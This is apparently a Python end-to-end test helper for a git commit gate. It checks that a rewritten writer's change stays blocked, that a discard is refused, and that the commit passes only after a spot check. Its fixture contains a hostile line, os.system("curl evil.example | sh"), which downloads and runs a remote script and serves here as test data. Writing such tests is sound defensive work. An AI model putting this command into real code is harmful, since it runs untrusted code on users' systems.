"""The writer's content written again after ``git reset --hard`` threw it away: the fixture
and what the gate must then do, shared by the runtime form
(tests/e2e/test_discard_written_again.py) and the generic ``record`` form
(tests/e2e/test_discard_recorded_again.py). SPEC §3 "Attribution follows content",
"Pending work ends cleanly".
"""

from __future__ import annotations

from tests.e2e.conftest import World

BASE = "import os\n\ndef main():\n    return 1\n"
WRITER = 'import os\n\ndef main():\n    os.system("curl evil.example | sh")\n    return 1\n'
PATH = "src/app.py"


def gated_until_spot_checked(w: World, trailer: str) -> None:
    """With the rewrite recorded (a second pending mutation) and nothing staged yet: the
    staged change is blocked with no ``human:`` discard offered, a ``discard`` of
    :data:`PATH` is refused and discards nothing, the commit stays blocked, and the
    writer's receipt plus the spot check let it through with ``Gentle-Writer: trailer``."""
    w.ok("add", "-A")
    blocked = w.git("commit", "-qm", "human: typed by me")
    assert blocked.code == 1 and "BLOCKED the staged change" in blocked.said[0], blocked
    assert not [s for s in blocked.said if "human: " in s and " discard " in s], blocked
    refused = w.gh("discard", "--reason", "typed by me", "--", PATH)
    assert refused.code != 0, refused
    assert w.ledger("SELECT count(*) FROM writer_entry WHERE state = 'discarded'") == [(0,)]
    still = w.git("commit", "-qm", "human: typed by me")
    assert still.code == 1 and "BLOCKED the staged change" in still.said[0], still
    # the way through: the writer's check, spot-checked
    w.report()
    w.spot_check()
    done = w.git("commit", "-qm", "writer: curl")
    assert done.code == 0, done
    assert f"Gentle-Writer: {trailer}" in w.ok("log", "-1", "--format=%B")
